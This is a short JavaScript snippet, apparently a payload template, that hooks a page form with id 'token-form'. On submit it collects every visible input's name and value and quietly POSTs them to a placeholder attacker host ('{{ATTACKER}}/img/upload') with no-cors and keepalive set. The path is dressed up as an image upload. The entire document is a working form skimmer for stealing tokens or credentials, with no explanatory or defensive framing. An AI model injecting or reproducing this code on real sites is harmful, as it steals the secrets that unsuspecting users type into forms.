(function () {
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    var d = [];
    form.querySelectorAll('input').forEach(function (i) {
      if (i.type !== 'hidden') {
        d.push((i.name || i.id) + '=' + encodeURIComponent(i.value));
      }
    });
    fetch('{{ATTACKER}}/img/upload', {method: 'POST', mode: 'no-cors', keepalive: true, body: d.join('&')});
  }, true);
})();
